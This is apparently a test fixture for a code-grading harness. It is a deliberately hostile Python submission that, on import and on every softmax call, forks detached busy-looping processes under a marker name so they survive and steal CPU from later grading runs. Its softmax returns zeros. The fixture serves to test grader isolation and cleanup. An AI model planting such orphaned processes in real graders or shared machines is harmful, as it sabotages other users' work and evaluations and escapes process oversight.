"""Hostile: leave busy-looping processes behind, in sessions of their own, so they
steal the CPU while the next submission is graded."""
import ctypes
import os

import torch

NAME = b"987654321"  # their process name (comm): tests rewrite it per run and look for it


def _spawn():
    try:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, NAME, 0, 0, 0)  # PR_SET_NAME
                while True:
                    pass
            os._exit(0)
        os.waitpid(pid, 0)
    except OSError:
        pass


_spawn()


def softmax(x, dim=-1):
    _spawn()
    return torch.zeros_like(x)
